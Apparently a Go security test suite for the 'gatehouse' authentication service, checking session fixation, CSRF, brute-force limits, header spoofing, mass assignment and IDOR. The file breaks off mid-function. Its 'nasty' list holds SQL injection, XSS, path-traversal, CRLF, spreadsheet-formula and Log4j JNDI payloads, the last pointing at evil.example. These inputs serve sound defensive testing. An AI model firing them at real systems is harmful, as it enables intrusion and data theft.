package main

import (
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/netip"
	"net/url"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"gatehouse/authsvc"
	"gatehouse/authsvc/mfa"
	"gatehouse/authsvc/rest"
	"gatehouse/config"
)

// TestSessionFixation plants ids and looks for ones that outlive what they should.
func TestSessionFixation(t *testing.T) {
	p := startPeople(t, nil)
	alpha := p.company("Alpha")
	u := p.person("", authsvc.RoleUser, alpha.ID)

	planted := base64.RawURLEncoding.EncodeToString(make([]byte, 32))
	b := p.browser()
	b.cookies[sessionCookie] = planted
	b.want(200, http.MethodGet, "/api/v1/auth/csrf", "")
	guest := b.cookies[sessionCookie]
	if guest == planted || guest == "" {
		t.Errorf("an id that the client chose was taken: %q", guest)
	}
	// An attacker's own guest session, planted in the victim's browser.
	attacker := p.browser()
	attacker.cookies[sessionCookie], attacker.csrf = guest, b.csrf
	if r := b.try(u.Username, goodPassword); r.status != 200 {
		t.Fatal(r.body)
	}
	signedIn := b.cookies[sessionCookie]
	if signedIn == guest {
		t.Error("the id stayed the same over the sign-in")
	}
	attacker.want(401, http.MethodGet, "/api/v1/me", "")
	b.want(200, http.MethodGet, "/api/v1/me", "")

	thief := p.browser()
	thief.cookies[sessionCookie] = signedIn
	thief.want(200, http.MethodGet, "/api/v1/me", "")
	b.want(204, http.MethodPost, "/api/v1/me/password", newPassword)
	if b.cookies[sessionCookie] == signedIn {
		t.Error("the id stayed the same over a new password")
	}
	thief.cookies[sessionCookie] = signedIn
	thief.want(401, http.MethodGet, "/api/v1/me", "")

	b.want(200, http.MethodGet, "/api/v1/me", "")
	thief.cookies[sessionCookie] = b.cookies[sessionCookie]
	b.want(204, http.MethodPost, "/api/v1/auth/sign-out", "")
	if _, still := b.cookies[sessionCookie]; still {
		t.Error("the cookie outlived the sign-out")
	}
	thief.want(401, http.MethodGet, "/api/v1/me", "")

	// The second factor is one more change of what the session may do.
	v := p.person("", authsvc.RoleUser, alpha.ID)
	_, app := p.withApp(&v)
	c := p.signIn(&v)
	half := c.cookies[sessionCookie]
	c.want(200, http.MethodPost, "/api/v1/auth/second-factor", jsonOf(map[string]any{"code": must(app.Code(time.Now().Add(30 * time.Second)))}))
	if c.cookies[sessionCookie] == half {
		t.Error("the id stayed the same over the second factor")
	}
}

// TestCookies holds how cookies are marked.
func TestCookies(t *testing.T) {
	p := startPeople(t, nil)
	u := p.person(authsvc.RoleGlobalAdmin, "")
	b := p.browser()
	b.want(200, http.MethodGet, "/api/v1/auth/csrf", "")
	set := b.try(u.Username, goodPassword).header.Values("Set-Cookie")
	if len(set) != 2 {
		t.Fatalf("cookies: %q", set)
	}
	for _, c := range set {
		if !strings.HasPrefix(c, "__Host-gatehouse_") || !strings.Contains(c, "; Secure") || !strings.Contains(c, "; HttpOnly") || !strings.Contains(c, "; SameSite=") ||
			strings.Contains(c, "Domain") || !strings.Contains(c, "; Path=/") {
			t.Errorf("cookie: %s", c)
		}
	}
}

// TestCSRF sends what another site could have a signed-in browser send.
func TestCSRF(t *testing.T) {
	p := startPeople(t, nil)
	admin, victim, other := p.person(authsvc.RoleGlobalAdmin, ""), p.person(authsvc.RoleUser, ""), p.person(authsvc.RoleUser, "")
	b, another := p.signIn(&admin), p.signIn(&other)
	guest := p.browser()
	guest.want(200, http.MethodGet, "/api/v1/auth/csrf", "")
	path := fmt.Sprintf("/api/v1/users/%d/disable", victim.ID)
	token := b.csrf
	for name, c := range map[string]struct {
		status  int
		body    string
		headers []string
	}{
		"no token":               {403, "", []string{"X-CSRF-Token", ""}},
		"a made up token":        {403, "", []string{"X-CSRF-Token", base64.RawURLEncoding.EncodeToString(make([]byte, 48))}},
		"another person's token": {403, "", []string{"X-CSRF-Token", another.csrf}},
		"a guest's token":        {403, "", []string{"X-CSRF-Token", guest.csrf}},
		"from another site":      {403, "", []string{"Sec-Fetch-Site", "cross-site"}},
		"from a sibling":         {403, "", []string{"Sec-Fetch-Site", "same-site"}},
		"another origin":         {403, "", []string{"Origin", "https://evil.example"}},
		"no origin":              {403, "", []string{"Origin", "null"}},
		"a form":                 {415, "csrf_token=" + url.QueryEscape(token), []string{"Content-Type", "application/x-www-form-urlencoded", "X-CSRF-Token", ""}},
		"a form, otherwise":      {415, "csrf_token=" + url.QueryEscape(token), []string{"Content-Type", "application/x-www-form-urlencoded; charset=utf-8"}},
		"plain text":             {415, "{}", []string{"Content-Type", "text/plain"}},
		"a file":                 {415, "{}", []string{"Content-Type", "multipart/form-data; boundary=x"}},
	} {
		if r := b.ask(http.MethodPost, path, c.body, c.headers...); r.status != c.status {
			t.Errorf("%s: %d %s", name, r.status, r.body)
		}
		b.want(403, http.MethodPost, path+"?csrf_token="+url.QueryEscape(token), "", "X-CSRF-Token", "")
		b.want(405, http.MethodGet, path, "")
	}
	if u := must(p.store.GetUser(t.Context(), localActor(), victim.ID)); u.State() != authsvc.UserActive {
		t.Error("one of them worked")
	}
	// Another site must not sign people in to its own account either, nor sign them out.
	fresh := p.browser()
	fresh.want(403, http.MethodPost, "/api/v1/auth/sign-in", jsonOf(map[string]any{"login": other.Username, "password": goodPassword}))
	b.want(403, http.MethodPost, "/api/v1/auth/sign-out", "", "X-CSRF-Token", "")
	b.want(200, http.MethodPost, path, "", "Sec-Fetch-Site", "same-origin", "Origin", p.base())
	// Programs that send a token prove themselves by it.
	pair := p.browser().want(200, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": admin.Username, "password": goodPassword}))
	p.program("Authorization", "Bearer "+pair.text("access_token")).want(200, http.MethodPost, fmt.Sprintf("/api/v1/users/%d/enable", victim.ID), "")
	// A token beside the cookie does not make a bad token good, nor the other way round.
	b.want(401, http.MethodPost, path, "", "Authorization", "Bearer nonsense")
}

// TestNobodyLearnsNames tries names that are somebody's and names that are nobody's: answers and work are the same.
func TestNobodyLearnsNames(t *testing.T) {
	p := startPeople(t, nil)
	ctx := t.Context()
	must(p.store.SetSetting(ctx, localActor(), "registration_enabled", "true"))
	alpha := p.company("Alpha")
	active, disabled, locked := p.person("", authsvc.RoleUser, alpha.ID), p.person("", authsvc.RoleUser, alpha.ID), p.person("", authsvc.RoleUser, alpha.ID)
	must(p.store.DisableUser(ctx, localActor(), disabled.ID))
	waiting := "waiting-person"
	p.browser().want(202, http.MethodPost, "/api/v1/auth/register", jsonOf(map[string]any{"username": waiting, "email": waiting + "@example.com", "password": goodPassword}))
	for range 6 {
		p.browser().try(locked.Username, "wrong")
	}
	never := regexp.MustCompile(`"request_id":"[^"]*"`)
	same := func(what string, replies map[string]func() reply) {
		t.Helper()
		var first, firstName string
		for name, ask := range replies {
			before := p.work.Load()
			r := ask()
			h := r.header.Clone()
			for _, differs := range []string{"Date", "X-Request-Id", "Set-Cookie"} {
				h.Del(differs)
			}
			got := fmt.Sprint(r.status, h, never.ReplaceAllString(r.body, ""), " work ", p.work.Load()-before)
			if first == "" {
				first, firstName = got, name
			}
			if got != first {
				t.Errorf("%s tells people apart:\n%s: %s\n%s: %s", what, firstName, first, name, got)
			}
		}
	}
	signIn := func(login, pass string) func() reply {
		return func() reply {
			b := p.browser()
			b.want(200, http.MethodGet, "/api/v1/auth/csrf", "")
			return b.try(login, pass)
		}
	}
	token := func(login, pass string) func() reply {
		return func() reply {
			return p.browser().ask(http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": login, "password": pass}))
		}
	}
	for what, by := range map[string]func(string, string) func() reply{"the sign-in": signIn, "the request for tokens": token} {
		same(what, map[string]func() reply{
			"a wrong password":        by(active.Username, "wrong"),
			"a wrong password, again": by(active.Email, "wrong"),
			"nobody":                  by("nobody-of-that-name", goodPassword),
			"nobody's e-mail":         by("nobody@example.com", goodPassword),
			"disabled":                by(disabled.Username, goodPassword),
			"waiting":                 by(waiting, goodPassword),
			"locked":                  by(locked.Username, goodPassword),
			"no name":                 by("", ""),
			"a very long password":    by(active.Username, strings.Repeat("x", 5000)),
		})
	}
	register := func(name, mail string) func() reply {
		return func() reply {
			return p.browser().ask(http.MethodPost, "/api/v1/auth/register", jsonOf(map[string]any{"username": name, "email": mail, "password": goodPassword}))
		}
	}
	same("the registration", map[string]func() reply{
		"a free name":          register("quite-free", "quite-free@example.com"),
		"a taken name":         register(active.Username, "other@example.com"),
		"a taken e-mail":       register("other-free", active.Email),
		"one who is disabled":  register(disabled.Username, disabled.Email),
		"one who also waits":   register(waiting, waiting+"@example.com"),
		"in another case":      register(strings.ToUpper(active.Username), "third@example.com"),
		"the first one's name": register("superadmin", "fourth@example.com"),
	})
}

// TestTOTPReplay gives one code many times at one moment, and once more later.
func TestTOTPReplay(t *testing.T) {
	p := startPeople(t, nil)
	u := p.person(authsvc.RoleGlobalAdmin, "")
	_, app := p.withApp(&u)
	proof := jsonOf(map[string]any{"code": must(app.Code(time.Now().Add(30 * time.Second)))})
	browsers := make([]*browser, 4) // more wrong ones would make the account pause
	for i := range browsers {
		browsers[i] = p.signIn(&u)
	}
	statuses := make([]int, len(browsers))
	var all sync.WaitGroup
	for i, b := range browsers {
		all.Go(func() { statuses[i] = b.ask(http.MethodPost, "/api/v1/auth/second-factor", proof).status })
	}
	all.Wait()
	slices.Sort(statuses)
	if !slices.Equal(statuses, []int{200, 401, 401, 401}) {
		t.Errorf("one code, at once: %v", statuses)
	}
	p.signIn(&u).want(401, http.MethodPost, "/api/v1/auth/second-factor", proof)
	p.browser().want(401, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": goodPassword, "code": must(app.Code(time.Now()))}))
}

// TestRecoveryCodeOnce uses a recovery code twice, and guesses codes.
func TestRecoveryCodeOnce(t *testing.T) {
	p := startPeople(t, nil)
	u := p.person(authsvc.RoleGlobalAdmin, "")
	b := p.signIn(&u)
	app := must(mfa.ReadTOTP(b.want(200, http.MethodPost, "/api/v1/me/totp", "{}").text("secret")))
	var shown struct {
		Codes []string `json:"recovery_codes"`
	}
	r := b.want(200, http.MethodPost, "/api/v1/me/totp/confirm", jsonOf(map[string]any{"code": must(app.Code(time.Now()))}))
	if err := json.Unmarshal([]byte(r.body), &shown); err != nil || len(shown.Codes) != 10 {
		t.Fatal(r.body, err)
	}
	proof := jsonOf(map[string]any{"code": shown.Codes[0]})
	p.signIn(&u).want(200, http.MethodPost, "/api/v1/auth/second-factor", proof)
	p.signIn(&u).want(401, http.MethodPost, "/api/v1/auth/second-factor", proof)
	// Half signed in is not signed in.
	half := p.signIn(&u)
	for _, path := range []string{"/api/v1/users", "/api/v1/me/sessions", "/api/v1/reports/totals?company=Default", "/api/v1/settings"} {
		half.want(401, http.MethodGet, path, "")
	}
	if me := half.want(200, http.MethodGet, "/api/v1/me", ""); me.text("role") != "" || len(me.field("permissions").(map[string]any)) != 0 {
		t.Errorf("half signed in: %s", me.body)
	}
	for range 12 {
		half.ask(http.MethodPost, "/api/v1/auth/second-factor", `{"code":"000000"}`)
	}
	half.want(401, http.MethodPost, "/api/v1/auth/second-factor", jsonOf(map[string]any{"code": shown.Codes[1]})) // it pauses now, and the code is not used up
	if left, err := p.store.RecoveryCodesLeft(t.Context(), p.actor(&u)); err != nil || left != 9 {
		t.Errorf("%d codes are left, %v", left, err)
	}
}

// TestBruteForce guesses one person's password from many addresses. The owner's own browser must go on to work.
func TestBruteForce(t *testing.T) {
	p := startPeople(t, func(c *config.Config) {
		c.RateLimiting.Enabled = true
		c.Proxy.Trusted = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}
	})
	u := p.person(authsvc.RoleGlobalAdmin, "")
	from := func(b *browser, i int) *browser {
		b.headers = []string{"X-Forwarded-For", fmt.Sprintf("198.51.%d.%d", i/200, 1+i%200)}
		return b
	}
	owner := from(p.browser(), 1000)
	if r := owner.try(u.Username, goodPassword); r.status != 200 || r.header.Get("X-RateLimit-Limit") == "" {
		t.Fatal(r.status, r.header, r.body)
	}
	owner.want(204, http.MethodPost, "/api/v1/auth/sign-out", "")
	before, limited := p.work.Load(), 0
	one := int64(0)
	for i := range 40 {
		r := from(p.browser(), i).try(u.Username, fmt.Sprint("guess", i))
		switch r.status {
		case 401:
		case 429:
			if limited++; r.header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
		default:
			t.Fatal(r.status, r.body)
		}
		if i == 0 {
			one = p.work.Load() - before
		}
	}
	if checked := (p.work.Load() - before) / one; limited == 0 || checked > 12 {
		t.Errorf("%d of 40 guesses from 40 addresses were checked, %d refused", checked, limited)
	}
	if r := from(p.browser(), 500).try(u.Username, goodPassword); r.status == 200 {
		t.Error("a stranger's right guess counts while the account pauses")
	}
	owner.csrf = ""
	if r := from(owner, 1001).try(u.Username, goodPassword); r.status != 200 {
		t.Errorf("the owner is kept out: %d %s", r.status, r.body)
	}
	// One address against many people.
	sprayed := 0
	for i := range 30 {
		if r := from(p.browser(), 2000).try(fmt.Sprint("somebody", i), goodPassword); r.status == 429 {
			sprayed++
		}
	}
	if sprayed < 15 {
		t.Errorf("%d of 30 guesses of one address were refused", sprayed)
	}
	// Sessions without a sign-in are bounded too, since each is a row.
	flood := 0
	for range 150 {
		if r := from(p.browser(), 3000).ask(http.MethodGet, "/api/v1/auth/csrf", ""); r.status == 429 {
			flood++
		}
	}
	if flood == 0 {
		t.Error("one address began 150 sessions")
	}
}

// TestReadsAreLimited asks more often than allowed, also with cookies that are made up beside the real one.
func TestReadsAreLimited(t *testing.T) {
	p := startPeople(t, func(c *config.Config) {
		c.RateLimiting.Enabled = true
		c.RateLimiting.APILimit = config.Rate{Count: 5, Per: time.Minute}
	})
	u := p.person(authsvc.RoleGlobalAdmin, "")
	b := p.signIn(&u)
	refused := 0
	for i := range 10 {
		b.cookies["x"+sessionCookie] = fmt.Sprint("made-up", i)
		b.cookies["zz-gatehouse_session"] = fmt.Sprint("made-up", i)
		if r := b.ask(http.MethodGet, "/api/v1/reports", ""); r.status == 429 {
			refused++
		}
	}
	if refused != 5 {
		t.Errorf("%d of 10 requests were refused where 5 are allowed", refused)
	}
	// A new sign-in, and tokens, are the same person, whose administration is counted with the rest.
	again := p.signIn(&u)
	pair := p.program("", "").want(200, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": goodPassword}))
	program := p.program("Authorization", "Bearer "+pair.text("access_token"))
	for _, way := range []*browser{again, program} {
		for _, path := range []string{"/api/v1/reports", "/api/v1/users", "/api/v1/audit", "/api/v1/events?company=Default"} {
			if r := way.want(429, http.MethodGet, path, ""); r.header.Get("Retry-After") == "" || r.header.Get("X-Ratelimit-Limit") != "5" || r.header.Get("X-Ratelimit-Remaining") != "0" {
				t.Errorf("%s: %v", path, r.header)
			}
		}
	}
	again.want(204, http.MethodPost, "/api/v1/auth/sign-out", "")
	// Others have their own allowance: people by themselves, a key with its successor.
	other := p.person(authsvc.RoleGlobalAdmin, "")
	if r := p.signIn(&other).want(200, http.MethodGet, "/api/v1/users", ""); r.header.Get("X-Ratelimit-Remaining") != "4" {
		t.Errorf("a first request: %v", r.header)
	}
	key, secret := p.key(p.company("Acme").ID, authsvc.ScopeRead)
	for range 5 {
		p.program("X-API-Key", secret).want(200, http.MethodGet, "/api/v1/reports", "")
	}
	_, next, err := p.store.RotateKey(t.Context(), localActor(), key.CompanyID, key.ID, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	p.program("X-API-Key", next).want(429, http.MethodGet, "/api/v1/reports", "")
}

// TestFailedSignInsTellTheLimit: a client that is about to be refused learns it from the failures before.
func TestFailedSignInsTellTheLimit(t *testing.T) {
	p := startPeople(t, func(c *config.Config) { c.RateLimiting.Enabled = true })
	u := p.person(authsvc.RoleGlobalAdmin, "")
	told := func(r reply, status int) {
		t.Helper()
		if r.status != status || r.header.Get("X-Ratelimit-Limit") != "10" || r.header.Get("X-Ratelimit-Remaining") == "" || r.header.Get("X-Ratelimit-Reset") == "" {
			t.Errorf("%d %v: %s", r.status, r.header, r.body)
		}
	}
	b := p.browser()
	told(b.try(u.Username, "wrong"), 401)
	told(b.try("nobody", "wrong"), 401)
	program := p.program("", "")
	told(program.ask(http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": "wrong"})), 401)
	told(program.ask(http.MethodPost, "/api/v1/auth/refresh", `{"refresh_token":"gh_refresh"}`), 401)
	_, _ = p.withApp(&u)
	told(p.signIn(&u).ask(http.MethodPost, "/api/v1/auth/second-factor", `{"code":"000000"}`), 401)
}

// TestHeadersAreNotBelieved sends what only a trusted proxy may say.
func TestHeadersAreNotBelieved(t *testing.T) {
	p := startPeople(t, nil)
	u := p.person(authsvc.RoleGlobalAdmin, "")
	b := p.browser()
	b.headers = []string{
		"X-Forwarded-For", "203.0.113.66", "X-Real-Ip", "203.0.113.66", "Forwarded", "for=203.0.113.66;host=evil.example", "X-Forwarded-Host", "evil.example",
		"X-Forwarded-Proto", "http", "X-Forwarded-Prefix", "//evil.example", "X-Request-Id", "chosen-by-client", "X-Http-Method-Override", "DELETE", "X-Original-Url", "/api/v1/users",
	}
	if r := b.try(u.Username, goodPassword); r.status != 200 || strings.Contains(fmt.Sprint(r.header), "evil") {
		t.Fatal(r.status, r.header, r.body)
	}
	for _, path := range []string{"/api/v1/me", "/api/v1/me/sessions", "/api/v1/audit", "/nothing", "//evil.example/%2e%2e", "/api//v1/me"} {
		r := b.ask(http.MethodGet, path, "")
		location, err := url.Parse(r.header.Get("Location"))
		if err != nil || location.Host != "" && location.Host != strings.TrimPrefix(p.base(), "https://") || strings.HasPrefix(r.header.Get("Location"), "//") {
			t.Errorf("%s leads to %q", path, r.header.Get("Location"))
		}
		if strings.Contains(r.body, "203.0.113.66") || r.header.Get("X-Request-Id") == "chosen-by-client" {
			t.Errorf("%s believes the client: %v %s", path, r.header, r.body)
		}
	}
	if got := must(p.store.GetUser(t.Context(), localActor(), u.ID)).LastLoginIP; got != "127.0.0.1" {
		t.Errorf("signed in from %q", got)
	}
	// A method in a header is no method.
	b.want(200, http.MethodGet, fmt.Sprintf("/api/v1/users/%d", u.ID), "")
	b.want(200, http.MethodGet, "/api/v1/me", "")
}

// TestMassAssignment adds fields that would be worth having to every body, and a body to every request that takes none.
func TestMassAssignment(t *testing.T) {
	s := newScene(t)
	extra := []string{
		"role", "company_id", "company", "id", "user_id", "epoch", "is_admin", "admin", "approved", "approved_at", "disabled", "disabled_at", "password_hash", "must_change_password",
		"totp_secret", "scopes", "memberships", "created_at", "mfa_policy", "key_hash", "revision", "Role", "ROLE", "__proto__", "constructor",
	}
	for _, d := range rest.Describe() {
		if d.Method == http.MethodGet {
			continue
		}
		i := slices.IndexFunc(scenarios, func(sc scenario) bool { return sc.pattern() == d.Method+" "+d.Path })
		b, who := s.caller("global")
		if strings.HasSuffix(d.Path, "/second-factor") {
			b, who = s.caller("pending")
		}
		method, address, body := s.request(&scenarios[i], &who)
		if body == "" {
			body = "{}"
		}
		known := map[string]bool{}
		if d.Body != nil {
			for f := range fieldsOf(d.Body) {
				known[f] = true
			}
		}
		for _, name := range extra {
			if known[name] {
				continue
			}
			var fields map[string]any
			if err := json.Unmarshal([]byte(body), &fields); err != nil {
				t.Fatal(err)
			}
			fields[name] = "GlobalAdmin"
			if r := b.ask(method, address, jsonOf(fields)); r.status != 400 || r.text("field") != name {
				t.Errorf("%s %s takes %q: %d %s", method, d.Path, name, r.status, r.body)
			}
		}
	}
	// What is in the body, but not the caller's to give.
	b, who := s.caller("cadmin")
	for _, try := range []struct{ method, path, body string }{
		{"POST", "/api/v1/users", `{"username":"a{n}","email":"a{n}@example.com","role":"Admin","memberships":[{"company_id":{company},"role":"User"}]}`},
		{"POST", "/api/v1/users", `{"username":"a{n}","email":"a{n}@example.com","memberships":[{"company_id":{company},"role":"Admin"}]}`},
		{"POST", "/api/v1/users", `{"username":"a{n}","email":"a{n}@example.com","memberships":[{"company_id":{company},"role":"User"},{"company_id":` + fmt.Sprint(s.beta.ID) + `,"role":"User"}]}`},
		{"POST", "/api/v1/users", `{"username":"a{n}","email":"a{n}@example.com"}`},
		{"PATCH", "/api/v1/users/" + fmt.Sprint(who.ID), `{"role":"GlobalAdmin"}`},
		{"PATCH", "/api/v1/users/" + fmt.Sprint(who.ID), `{"mfa_policy":"not_required"}`},
		{"PUT", "/api/v1/users/" + fmt.Sprint(who.ID) + "/memberships/{company}", `{"role":"Admin"}`},
		{"PUT", "/api/v1/users/" + fmt.Sprint(who.ID) + "/memberships/" + fmt.Sprint(s.beta.ID), `{"role":"User"}`},
		{"PUT", "/api/v1/users/1/memberships/{company}", `{"role":"User"}`},
	} {
		if r := b.ask(try.method, s.fixture(try.path, &who), s.fixture(try.body, &who)); r.status < 400 || r.status >= 500 {
			t.Errorf("%s %s %s: %d %s", try.method, try.path, try.body, r.status, r.body)
		}
	}
	if now := must(s.store.GetUser(t.Context(), localActor(), who.ID)); now.Role != authsvc.RoleUser || len(now.Memberships) != 1 || now.Memberships[0].Role != authsvc.RoleCompanyAdmin {
		t.Errorf("they have become %+v", now)
	}
}

// fieldsOf are the JSON names of a body with their types.
func fieldsOf(t reflect.Type) map[string]reflect.Type {
	out := map[string]reflect.Type{}
	for i := range t.NumField() {
		name, _, _ := strings.Cut(t.Field(i).Tag.Get("json"), ",")
		out[name] = t.Field(i).Type
	}
	return out
}

// TestIDOR asks for everything that has an id of somebody else's, and for one that nobody has: the answers are the same.
func TestIDOR(t *testing.T) {
	s := newScene(t)
	_, victim := s.caller("cadmin")
	nobody := strings.NewReplacer("{user}", "987654", "{key}", "987654", "{token}", "987654", "{passkey}", "987654", "{error}", "987654",
		"{session}", "fedcba9876543210", "{program}", strings.Repeat("fe", 16), "{id}", strings.Repeat("ab", 16))
	forget := regexp.MustCompile(`"request_id":"[^"]*"|[0-9a-f]{16,}|\d+`)
	for i := range scenarios {
		sc := &scenarios[i]
		method, path, _ := strings.Cut(sc.route, " ")
		path = strings.ReplaceAll(path, "{passkey=none}", "{passkey}")
		ours := strings.ReplaceAll(path, "{company}", fmt.Sprint(s.beta.ID))
		foreign := strings.ReplaceAll(path, "{company=spare}", "{company}") // theirs
		absent := nobody.Replace(strings.ReplaceAll(foreign, "{company}", "987654"))
		if absent == foreign || strings.Contains(foreign, "{name") || strings.Contains(foreign, "{domain") {
			continue // no ids, or none that are anybody's
		}
		tries := map[string][2]string{"another company's": {foreign, absent}}
		if strings.Contains(ours, "{") && ours != path { // their key or person under a company of the caller's own
			tries["within the own company"] = [2]string{ours, nobody.Replace(ours)}
		}
		query := "?" + strings.ReplaceAll(sc.query, ofAlpha, "company=Beta&")
		for what, try := range tries {
			for _, name := range []string{"other", "user"} {
				if name == "user" && (strings.Contains(try[0], "{company") || strings.Contains(try[0], "{id}")) {
					continue // the company is the user's own, and its events are theirs to read
				}
				var got [2]string
				for j, p := range try {
					b, _ := s.caller(name)
					q := query
					if name == "user" {
						q = "?" + sc.query
					}
					r := b.ask(method, strings.TrimSuffix(s.fixture(p+q, &victim), "?"), s.fixture(sc.body, &victim))
					got[j] = fmt.Sprint(r.status, " ", forget.ReplaceAllString(r.body, "…"))
					if r.status < 400 {
						t.Errorf("%s %s, %s: %s gets %d %s", sc.route, p, what, name, r.status, r.body)
					}
				}
				if got[0] != got[1] {
					t.Errorf("%s, %s: %s can tell what is there:\n%s\n%s", sc.route, what, name, got[0], got[1])
				}
			}
		}
	}
	if now := must(s.store.GetUser(t.Context(), localActor(), victim.ID)); now.Epoch != victim.Epoch || now.State() != authsvc.UserActive {
		t.Errorf("the victim has changed: %+v", now)
	}
}

// TestIDORInParameters names what is another company's in a query or a body, and what nobody has: the answers are the same, and nothing is given.
func TestIDORInParameters(t *testing.T) {
	s := newScene(t)
	_, victim := s.caller("cadmin")
	b, _ := s.caller("other") // a CompanyAdmin of Beta
	theirs, absent := fmt.Sprint(s.alpha.ID), "987654"
	forget := regexp.MustCompile(`"request_id":"[^"]*"|[0-9a-f]{16,}|\d+|Alpha|Nothing`)
	ask := func(method, path, body string) string {
		r := b.ask(method, path, body)
		if strings.Contains(r.body, victim.Username) || strings.Contains(r.body, victim.Email) {
			t.Errorf("%s %s %s tells of the victim: %s", method, path, body, r.body)
		}
		return fmt.Sprint(r.status, " ", forget.ReplaceAllString(r.body, "…"))
	}
	same := func(method, path, body string, refused bool, holes ...[2]string) {
		t.Helper()
		for _, hole := range holes {
			got, none := ask(method, strings.ReplaceAll(path, "{}", hole[0]), strings.ReplaceAll(body, "{}", hole[0])), ask(method, strings.ReplaceAll(path, "{}", hole[1]), strings.ReplaceAll(body, "{}", hole[1]))
			if got != none {
				t.Errorf("%s %s %s can tell what is there:\n%s\n%s", method, path, body, got, none)
			}
			if refused && got < "4" {
				t.Errorf("%s %s %s with %s: %s", method, path, body, hole[0], got)
			}
		}
	}
	ids := [2]string{theirs, absent}
	for _, path := range []string{"/api/v1/users?company={}", "/api/v1/users?total=true&company={}", "/api/v1/companies?q={}", "/api/v1/keys?company={}", "/api/v1/audit?company={}"} {
		same(http.MethodGet, path, "", strings.Contains(path, "company={}"), ids)
	}
	for _, path := range []string{"/api/v1/audit?actor_id={}", "/api/v1/audit?target_kind=user&target_id={}"} {
		same(http.MethodGet, path, "", false, [2]string{fmt.Sprint(victim.ID), absent})
	}
	for _, path := range []string{"/api/v1/audit?actor={}", "/api/v1/audit?q={}", "/api/v1/users?q={}"} {
		same(http.MethodGet, path, "", false, [2]string{victim.Username, "nobody-at-all"})
	}
	for _, path := range []string{"/api/v1/reports/totals?from=2026-01-01&to=2026-01-02&company={}", "/api/v1/reports?company={}", "/api/v1/events?company={}"} {
		same(http.MethodGet, path, "", !strings.HasPrefix(path, "/api/v1/reports?"), ids, [2]string{"Alpha", "Nothing"})
	}
	member := func(role string) string {
		return `{"username":"` + s.unique("new") + `","email":"` + s.unique("new") + `@example.com","memberships":[{"company_id":{},"role":"` + role + `"}]}`
	}
	for _, role := range []string{"User", "CompanyAdmin"} {
		same(http.MethodPost, "/api/v1/users", member(role), true, ids)
	}
	waiting := fmt.Sprintf("/api/v1/users/%d", victim.ID)
	for _, body := range []string{`{"memberships":[{"company_id":{},"role":"User"}]}`} {
		same(http.MethodPost, waiting+"/approve", body, true, ids)
	}
	same(http.MethodPut, waiting+"/memberships/{}", `{"role":"CompanyAdmin"}`, true, ids)
	same(http.MethodPut, fmt.Sprintf("/api/v1/users/{}/memberships/%d", s.beta.ID), `{"role":"CompanyAdmin"}`, true, [2]string{fmt.Sprint(victim.ID), absent})
	if now := must(s.store.GetUser(t.Context(), localActor(), victim.ID)); now.Epoch != victim.Epoch || len(now.Memberships) != len(victim.Memberships) {
		t.Errorf("the victim has changed: %+v", now)
	}
}

// nasty are texts that mean something to databases, browsers, logs or file systems.
var nasty = []string{
	`' OR '1'='1`, `'; DROP TABLE users; --`, `" OR 1=1 --`, `1; SELECT pg_sleep(5)`, `\'; --`, `%`, `_`, `!%`, `') UNION SELECT password_hash FROM users --`, `${jndi:ldap://evil.example/a}`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `{{7*7}}`, `javascript:alert(1)`, `</script><svg/onload=alert(1)>`, `../../etc/passwd`, "a\r\nSet-Cookie: x=y",
	"\u202Eevil", "\ufeff", "\u00e9\u0301", strings.Repeat("A", 5000), "=cmd|'/c calc'!A1",
}

// TestNastyParameters puts them into every parameter and every path: none of them is an error of ours, and none finds more than it says.
func TestNastyParameters(t *testing.T) {
	s := newScene(t)
	b, who := s.caller("global")
	tables := func() string {
		var out []string
		for _, table := range []string{"users", "companies", "api_keys", "memberships", "settings", "personal_tokens", "email_domains"} {
			var n int
			if err := s.store.DB().QueryRow(t.Context(), "SELECT COUNT(*) FROM "+table).Scan(&n); err != nil {
				t.Fatal(err)
			}
			out = append(out, fmt.Sprint(table, n))
		}
		return strings.Join(out, " ")
	}
	before := tables()
	raw := []string{"%00", "%ff", "a%00b", "%c3%28", "%27%20OR%201=1"}
	for _, text := range nasty {
		raw = append(raw, url.QueryEscape(text))
	}
	for _, d := range rest.Describe() {
		if d.Method == http.MethodGet {
			path := s.fixture(strings.NewReplacer("{name}", "x").Replace(d.Path), &who)
			for _, p := range d.Params {
				for _, text := range raw {
					r := b.ask(d.Method, path+"?"+p.Name+"="+text, "")
					if r.status >= 500 {
						t.Errorf("%s?%s=%s: %d %s", d.Path, p.Name, text, r.status, r.body)
					}
					if rows, ok := r.field("rows").([]any); ok && p.Name == "q" && d.Path != "/api/v1/audit" && d.Path != "/api/v1/errors" && len(rows) > 0 && text != url.QueryEscape("_") {
						t.Errorf("%s?q=%s finds %d rows", d.Path, text, len(rows))
					}
				}
			}
		}
		for _, hole := range regexp.MustCompile(`\{[a-z]+\}`).FindAllString(d.Path, -1) {
			for _, text := range raw {
				text = strings.ReplaceAll(strings.ReplaceAll(text, "+", "%20"), "%2F", "x")
				path := s.fixture(strings.ReplaceAll(strings.ReplaceAll(d.Path, hole, text), "{name}", "x"), &authsvc.User{})
				if strings.Contains(d.Path, "{user}") || strings.Contains(d.Path, "{key}") || strings.Contains(d.Path, "{domain}") {
					before = tables() // the fixture adds to them
				}
				if r := b.ask(d.Method, path, "{}"); r.status < 400 || r.status >= 500 {
					t.Errorf("%s %s: %d %s", d.Method, path, r.status, r.body)
				}
				if after := tables(); after != before {
					t.Errorf("%s %s changes the tables:\n%s\n%s", d.Method, path, before, after)
				}
			}
		}
	}
}

// TestNastyTexts puts them into every text of every body. They are refused, or stored and given back as they are, as JSON and as nothing else.
func TestNastyTexts(t *testing.T) {
	s := newScene(t)
	b, who := s.caller("global")
	for _, d := range rest.Describe() {
